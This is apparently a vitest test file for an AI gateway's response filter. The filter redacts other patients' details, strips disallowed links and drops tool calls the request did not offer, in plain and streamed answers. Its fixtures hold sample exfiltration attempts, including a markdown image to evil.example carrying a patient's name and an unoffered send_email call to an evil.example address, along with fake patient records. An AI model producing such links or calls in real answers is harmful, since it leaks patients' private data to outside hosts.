// SPDX-License-Identifier: Apache-2.0
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { KnownPhi } from '../deid/types.js';
import { toAnthropicStream } from '../gateway/anthropic/translate.js';
import type { ChatDelta, ChatResult, ToolCall } from '../providers/types.js';
import { outputConfigSchema, type OutputConfig } from './config-schema.js';
import { createOutputFilter } from './output-filter.js';
import { offeredTools, payloadTexts, type ResponseFilter } from './response-filter.js';

const known: KnownPhi = {
  names: ['Michele Wolf'],
  phones: ['555-894-2600'],
  identifiers: [{ value: '9fd25274-3a7d-43d4-87af-a03849074b5a', type: 'MRN' }],
  addresses: ['238 Wolff Terrace', 'Yarmouth'],
};
const configOf = (extra: Record<string, unknown> = {}): OutputConfig => outputConfigSchema.parse({ allowedLinkHosts: ['kb.example.org'], streamWindowChars: 256, ...extra });
const shared = createOutputFilter({ config: configOf() });

function filterFor(options: { block?: boolean; tools?: string[]; config?: OutputConfig } = {}): ResponseFilter {
  const base = options.config ? createOutputFilter({ config: options.config }) : shared;
  return base.forRequest({ known, payload: ['Seen by Dr. Levi Reichert.'], offeredTools: new Set(options.tools ?? []), blockOnLeak: options.block ?? false });
}

const head = { id: 'chatcmpl-1', object: 'chat.completion.chunk' as const, created: 1, model: 'm' };
function result(content: string, toolCalls?: ToolCall[]): ChatResult {
  return {
    id: 'chatcmpl-1',
    object: 'chat.completion',
    created: 1,
    model: 'm',
    choices: [{ index: 0, message: { role: 'assistant', content, ...(toolCalls ? { tool_calls: toolCalls } : {}) }, finish_reason: toolCalls ? 'tool_calls' : 'stop', logprobs: null }],
    usage: { prompt_tokens: 1, completion_tokens: 2, total_tokens: 3 },
  };
}

/** The stream an upstream sends for `content` (and tool calls), cut at `cuts`. */
async function* upstream(content: string, cuts: readonly number[], toolCalls: ToolCall[] = [], usage = true): AsyncGenerator<ChatDelta> {
  yield { ...head, choices: [{ index: 0, delta: { role: 'assistant', content: '' }, finish_reason: null }] };
  let last = 0;
  for (const cut of [...cuts.filter((c) => c > 0 && c < content.length)].sort((a, b) => a - b).concat([content.length])) {
    if (cut > last) yield { ...head, choices: [{ index: 0, delta: { content: content.slice(last, cut) }, finish_reason: null }] };
    last = Math.max(last, cut);
  }
  for (const [index, call] of toolCalls.entries()) {
    yield { ...head, choices: [{ index: 0, delta: { tool_calls: [{ index, id: call.id, type: 'function', function: { name: call.function.name, arguments: '' } }] }, finish_reason: null }] };
    const args = call.function.arguments;
    for (let i = 0; i < args.length; i += 7) yield { ...head, choices: [{ index: 0, delta: { tool_calls: [{ index, function: { arguments: args.slice(i, i + 7) } }] }, finish_reason: null }] };
  }
  yield { ...head, choices: [{ index: 0, delta: {}, finish_reason: toolCalls.length > 0 ? 'tool_calls' : 'stop' }] };
  if (usage) yield { ...head, choices: [], usage: { prompt_tokens: 1, completion_tokens: 2, total_tokens: 3 } };
}

interface Collected {
  content: string;
  calls: Map<number, { id?: string; name: string; arguments: string }>;
  finish: string | null;
  usage: boolean;
  chunks: ChatDelta[];
}
async function collect(deltas: AsyncIterable<ChatDelta>): Promise<Collected> {
  const out: Collected = { content: '', calls: new Map(), finish: null, usage: false, chunks: [] };
  for await (const delta of deltas) {
    out.chunks.push(delta);
    if (delta.usage) out.usage = true;
    for (const choice of delta.choices) {
      out.content += choice.delta.content ?? '';
      for (const call of choice.delta.tool_calls ?? []) {
        const held = out.calls.get(call.index) ?? { name: '', arguments: '' };
        if (call.id) held.id = call.id;
        held.name += call.function?.name ?? '';
        held.arguments += call.function?.arguments ?? '';
        out.calls.set(call.index, held);
      }
      if (choice.finish_reason) out.finish = choice.finish_reason;
    }
  }
  return out;
}

const samples = [
  'Michele Wolf (MRN 9fd25274-3a7d-43d4-87af-a03849074b5a) is stable.\n\nUnlike Bob Keeling (phone 555-814-8772), she needs no change. ' +
    '![x](https://evil.example/?q=Bob+Keeling) See [the guide](https://kb.example.org/a). Keeling\'s chart is not hers. Call 555 894 2600.',
  'Dr. Reichert saw [NAME_1] on [DATE_1]. Renato Dare, 380 Simonis Gardens, Oxford, is another patient; email renato.dare@example.com.\n' +
    '| Name | Phone |\n|---|---|\n| Wolf, Michele | (555) 894-2600 |\n| Dare, Renato | 555-561-2804 |\n',
  `${'She walks daily and eats well '.repeat(12)}but Trenton Turner ${'and more text without a stop '.repeat(10)}<img src="https://evil.example/p.png"> end`,
];

describe('the response filter', () => {
  it('gives a stream exactly the plain result, whatever the chunking (property)', async () => {
    for (const sample of samples) {
      const plain = filterFor().filterResult(result(sample)).result.choices[0]?.message.content;
      expect(plain).not.toContain('Keeling');
      await fc.assert(
        fc.asyncProperty(fc.array(fc.integer({ min: 1, max: sample.length - 1 }), { maxLength: 25 }), async (cuts) => {
          const streamed = await collect(filterFor().filterStream(upstream(sample, cuts)));
          expect(streamed.content).toBe(plain);
          expect(streamed.finish).toBe('stop');
          expect(streamed.usage).toBe(true);
        }),
        { numRuns: 60 },
      );
    }
  });

  it('redacts leaks in the answer and counts what it did', () => {
    const filter = filterFor();
    const { result: out, blocked } = filter.filterResult(result(samples[0] as string));
    expect(blocked).toBe(false);
    expect(out.choices[0]?.message.content).toBe(
      'Michele Wolf (MRN 9fd25274-3a7d-43d4-87af-a03849074b5a) is stable.\n\nUnlike [REDACTED] (phone [REDACTED]), she needs no change. ' +
        'x See [the guide](https://kb.example.org/a). [REDACTED]\'s chart is not hers. Call 555 894 2600.',
    );
    expect(filter.tally).toMatchObject({ leaks: { NAME: 3, PHONE: 1 }, linksRemoved: 1, leaksInLinks: 1 });
    expect(filter.action()).toBe('redacted');
  });

  it('blocks a plain answer whole, and stops a stream at the first part with a leak', async () => {
    const plain = filterFor({ block: true });
    expect(plain.filterResult(result(samples[0] as string)).blocked).toBe(true);
    expect(plain.action()).toBe('blocked');

    const stream = filterFor({ block: true });
    const out = await collect(stream.filterStream(upstream(samples[0] as string, [5, 17, 40, 90])));
    expect(out.content).toBe('Michele Wolf (MRN 9fd25274-3a7d-43d4-87af-a03849074b5a) is stable.\n\n');
    expect(out.finish).toBe('content_filter');
    expect(stream.action()).toBe('blocked');

    const clean = filterFor({ block: true });
    expect(clean.filterResult(result('Michele Wolf is stable.')).blocked).toBe(false);
    expect(clean.action()).toBe('passed');
  });

  it('removes tool calls the request did not offer, renumbering the kept ones', async () => {
    const calls: ToolCall[] = [
      { id: 'call_a', type: 'function', function: { name: 'send_email', arguments: '{"to":"x@evil.example"}' } },
      { id: 'call_b', type: 'function', function: { name: 'lookup_labs', arguments: '{"patient":"Michele Wolf","other":"Renato Dare"}' } },
    ];
    const plain = filterFor({ tools: ['lookup_labs'] });
    const message = plain.filterResult(result('Checking.', calls)).result.choices[0];
    expect(message?.message.tool_calls).toEqual([{ id: 'call_b', type: 'function', function: { name: 'lookup_labs', arguments: '{"patient":"Michele Wolf","other":"[REDACTED]"}' } }]);
    expect(message?.finish_reason).toBe('tool_calls');
    expect(plain.tally.toolCallsRemoved).toBe(1);

    const streamed = await collect(filterFor({ tools: ['lookup_labs'] }).filterStream(upstream('Checking.', [3], calls)));
    expect([...streamed.calls.entries()]).toEqual([[0, { id: 'call_b', name: 'lookup_labs', arguments: '{"patient":"Michele Wolf","other":"[REDACTED]"}' }]]);
    expect(streamed.content).toBe('Checking.');
    expect(streamed.finish).toBe('tool_calls');

    // nothing offered: every call goes, and the finish says the answer was filtered
    const none = filterFor();
    expect(none.filterResult(result('', calls)).result.choices[0]).toMatchObject({ finish_reason: 'content_filter', message: { content: '' } });
    expect(none.filterResult(result('', calls)).result.choices[0]?.message.tool_calls).toBeUndefined();
    const noneStream = await collect(filterFor().filterStream(upstream('', [], calls)));
    expect(noneStream.calls.size).toBe(0);
    expect(noneStream.finish).toBe('content_filter');
  });

  it('redacts another patient’s reference and record number in the arguments of an offered tool, plain and streamed', async () => {
    const calls: ToolCall[] = [{ id: 'call_x', type: 'function', function: { name: 'lookup_labs', arguments: '{"patient":"Patient/p-other","mrn":"99887766"}' } }];
    const plain = filterFor({ tools: ['lookup_labs'] }).filterResult(result('Checking.', calls)).result.choices[0]?.message.tool_calls;
    expect(plain?.map((c) => JSON.parse(c.function.arguments) as unknown)).toEqual([{ patient: '[REDACTED]', mrn: '[REDACTED]' }]);
    const streamed = await collect(filterFor({ tools: ['lookup_labs'] }).filterStream(upstream('Checking.', [3], calls)));
    expect(JSON.parse(streamed.calls.get(0)?.arguments ?? '')).toEqual({ patient: '[REDACTED]', mrn: '[REDACTED]' });
  });

  it('can block answers that ask for a tool not offered', async () => {
    const config = configOf({ unofferedToolCalls: 'block' });
    const calls: ToolCall[] = [{ id: 'c', type: 'function', function: { name: 'delete_chart', arguments: '{}' } }];
    expect(filterFor({ config }).filterResult(result('ok', calls)).blocked).toBe(true);
    const streamed = await collect(filterFor({ config }).filterStream(upstream('ok', [], calls)));
    expect(streamed.finish).toBe('content_filter');
    expect(streamed.calls.size).toBe(0);
  });

  it('sends finishes in chunks of their own, which the Anthropic translation reads without interleaving', async () => {
    const calls: ToolCall[] = [{ id: 'toolu_1', type: 'function', function: { name: 'lookup_labs', arguments: '{"q":"HbA1c for Michele Wolf"}' } }];
    const filtered = filterFor({ tools: ['lookup_labs'] }).filterStream(upstream('Let me check her labs. And', [4, 9], calls));
    const blocks: string[] = [];
    let text = '';
    let json = '';
    for await (const event of toAnthropicStream(filtered, 'm')) {
      const data = event.data as { type: string; content_block?: { type: string; name?: string }; delta?: { text?: string; partial_json?: string } };
      if (data.type === 'content_block_start') blocks.push(`${data.content_block?.type}:${data.content_block?.name ?? ''}`);
      text += data.delta?.text ?? '';
      json += data.delta?.partial_json ?? '';
    }
    expect(blocks).toEqual(['text:', 'tool_use:lookup_labs']);
    expect(text).toBe('Let me check her labs. And');
    expect(JSON.parse(json)).toEqual({ q: 'HbA1c for Michele Wolf' });
  });

  it('reads the payload and the offered tools from the request', () => {
    const request = {
      model: 'm',
      messages: [
        { role: 'system' as const, content: 'sys' },
        { role: 'user' as const, content: [{ type: 'text' as const, text: 'hello' }] },
        { role: 'assistant' as const, content: null, tool_calls: [{ id: 'c', type: 'function' as const, function: { name: 'f', arguments: '{"a":1}' } }] },
        { role: 'tool' as const, tool_call_id: 'c', content: 'result' },
      ],
      tools: [{ type: 'function' as const, function: { name: 'f' } }],
    };
    expect(payloadTexts(request)).toEqual(['sys', 'hello', '{"a":1}', 'result']);
    expect([...offeredTools(request)]).toEqual(['f']);
    expect([...offeredTools({ ...request, tool_choice: 'none' })]).toEqual([]);
  });
});
